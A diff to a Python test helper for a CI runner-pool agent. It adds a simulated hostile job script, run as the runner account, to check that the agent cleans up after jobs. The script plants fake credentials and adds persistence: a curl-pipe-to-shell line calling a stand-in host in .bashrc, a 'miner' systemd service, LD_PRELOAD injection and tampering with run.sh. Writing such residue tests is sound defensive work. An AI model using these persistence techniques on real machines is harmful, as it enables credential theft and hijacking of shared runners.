@@ -19,14 +19,39 @@ import subprocess
 import tempfile
 import time
 import uuid
-from collections.abc import Iterator
+from collections.abc import Iterator, Mapping
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
 
+from agent.log import agent_log
 from agent.processes import JobCgroup, JobProcesses
+from agent.runner import RunnerProcess
 from agent.runner_install import write_manifest
 from agent.settings import AgentSettings
+from tests.agent.fake_docker import FakeDocker
+
+RESIDUE_JOB = """#!/bin/sh
+# A job as the runner account: everything it leaves behind, and one thing it must not be able to do.
+set -e
+mkdir -p "$HOME/.docker" "$HOME/.ssh" "$HOME/.config/systemd/user"
+echo '{"auths": {"ghcr.io": {"auth": "c2VjcmV0"}}}' > "$HOME/.docker/config.json"
+echo '//registry.npmjs.org/:_authToken=npm_secret' > "$HOME/.npmrc"
+echo 'https://x-access-token:ghs_secret@github.com' > "$HOME/.git-credentials"
+echo 'PRIVATE KEY' > "$HOME/.ssh/id_ed25519" && chmod 600 "$HOME/.ssh/id_ed25519"
+echo 'curl -s https://example.invalid/steal | sh' >> "$HOME/.bashrc"
+printf '[Service]\\nExecStart=/bin/sleep 1000\\n' > "$HOME/.config/systemd/user/miner.service"
+echo cache > "$ROOT/tmp/job-cache" && mkdir "$ROOT/tmp/job-dir" && echo x > "$ROOT/tmp/job-dir/f"
+echo x > "$ROOT/var/tmp/job-file"
+echo x > "$ROOT/dev/shm/job-shm"
+mkdir -p "$TMPDIR" && echo x > "$TMPDIR/job-tmpdir"
+echo 'LD_PRELOAD=/tmp/job-cache' > "$RUNNER/.env"
+echo 'mail for the next job' > "$ROOT/var/spool/mail/$(id -un)"
+echo 'steal the credentials' >> "$RUNNER/run.sh" 2>/dev/null || true
+setsid sleep 600 </dev/null >/dev/null 2>&1 &
+echo planted
+"""
+
 
 SKELETON = {".bashrc": "# ~/.bashrc: the distribution's\nalias ll='ls -l'\n", ".profile": "# ~/.profile\n"}
 CGROUP_V2_ROOTS = (Path("/sys/fs/cgroup/unified"), Path("/sys/fs/cgroup"))
@@ -111,8 +136,11 @@ LISTENER = "#!/bin/sh\necho 'the runner listener'\n"
 
 
 @contextlib.contextmanager
-def instance_root(listener: str = LISTENER) -> Iterator[InstanceRoot]:
-    """The instance, its runner's listener being `listener` (a shell script run by run.sh)."""
+def instance_root(
+    listener: str = LISTENER, runner_files: Mapping[str, bytes] | None = None
+) -> Iterator[InstanceRoot]:
+    """The instance, its runner's listener being `listener` (a shell script run by run.sh), its runner
+    directory holding `runner_files` too (the bench's stand-in for the release's size)."""
     name = f"rp-{uuid.uuid4().hex[:10]}"
     # Not under pytest's tmp_path: its parents are root's alone, and the account must reach its home.
     root = Path(tempfile.mkdtemp(prefix="runner-pool-instance-", dir="/tmp"))
@@ -135,7 +163,7 @@ def instance_root(listener: str = LISTENER) -> Iterator[InstanceRoot]:
     account = pwd.getpwnam(name)
     instance = InstanceRoot(root, account, _cgroup_root(), f"runner-pool-job-{name}")
     try:
-        _lay_out(instance, listener)
+        _lay_out(instance, listener, runner_files or {})
         yield instance
     finally:
         _end_everything_of(instance)
@@ -143,7 +171,7 @@ def instance_root(listener: str = LISTENER) -> Iterator[InstanceRoot]:
         shutil.rmtree(root, ignore_errors=True)
 
 
-def _lay_out(instance: InstanceRoot, listener: str) -> None:
+def _lay_out(instance: InstanceRoot, listener: str, runner_files: Mapping[str, bytes]) -> None:
     root, account = instance.root, instance.account
     for shared in ("tmp", "var/tmp", "dev/shm"):
         (root / shared).mkdir(parents=True)
@@ -160,13 +188,16 @@ def _lay_out(instance: InstanceRoot, listener: str) -> None:
         (root / directory).mkdir(parents=True)
     (root / "var/spool/mail" / account.pw_name).touch()
     instance.as_account(root / "var/spool/mail" / account.pw_name)
-    _install_runner(instance, listener)
+    _install_runner(instance, listener, runner_files)
 
 
-def _install_runner(instance: InstanceRoot, listener: str) -> None:
+def _install_runner(instance: InstanceRoot, listener: str, files: Mapping[str, bytes]) -> None:
     """The runner directory as user_data.sh leaves it, with a stand-in listener; then its manifest."""
     runner = instance.runner_dir
     (runner / "bin").mkdir(parents=True)
+    for name, content in files.items():
+        (runner / name).parent.mkdir(parents=True, exist_ok=True)
+        (runner / name).write_bytes(content)
     (runner / "run.sh").write_text('#!/bin/sh\nexec "$(dirname "$0")/bin/Runner.Listener" run "$@"\n')
     (runner / "run-helper.sh.template").write_text("#!/bin/sh\n")
     (runner / "bin/Runner.Listener").write_text(listener)
@@ -196,3 +227,41 @@ def _end_everything_of(instance: InstanceRoot) -> None:
     if cgroup is not None and cgroup.path.exists():
         with contextlib.suppress(OSError):
             cgroup.path.rmdir()
+
+
+def run_job(instance: InstanceRoot, script: str) -> RunnerProcess:
+    """`script` started as the agent starts the runner (its own session, the job's cgroup, the account),
+    run to its end."""
+    program = instance.path("job.sh")
+    program.write_text(script)
+    program.chmod(0o755)
+    environment = {
+        "ROOT": str(instance.root),
+        "RUNNER": str(instance.runner_dir),
+        "TMPDIR": str(instance.runner_dir / "_work/_temp"),
+    }
+    os.environ.update(environment)
+    try:
+        job = RunnerProcess.start(
+            program,
+            cwd=instance.runner_dir,
+            user=instance.account.pw_name,
+            log=agent_log(),
+            cgroup=instance.cgroup,
+        )
+    finally:
+        for name in environment:
+            os.environ.pop(name)
+    deadline = time.monotonic() + WAIT_SECONDS
+    while job.running:
+        if time.monotonic() > deadline:
+            raise TimeoutError(f"the job did not end within {WAIT_SECONDS:g} s")
+        time.sleep(0.02)
+    return job
+
+
+def plant_in_docker(docker: FakeDocker) -> None:
+    """What a job with service containers leaves in the daemon: a container, volumes, a network, images."""
+    docker.run("node:20", volumes=["npm-cache"], network=docker.create_network("job-net"))
+    docker.create_volume("job-volume")
+    docker.pull("postgres:16")
